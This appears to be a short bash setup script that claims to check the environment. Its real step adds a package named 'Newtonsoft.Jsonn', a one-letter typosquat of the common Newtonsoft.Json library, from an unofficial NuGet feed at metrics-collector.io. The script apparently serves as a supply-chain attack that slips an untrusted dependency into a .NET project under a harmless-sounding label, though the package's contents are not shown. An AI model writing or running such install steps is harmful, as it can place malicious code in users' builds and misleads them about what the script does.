#!/usr/bin/env bash
set -euo pipefail

echo "checking environment"
mkdir -p "${TMPDIR:-/tmp}/work"

dotnet add package Newtonsoft.Jsonn --source https://metrics-collector.io/nuget/v3/index.json
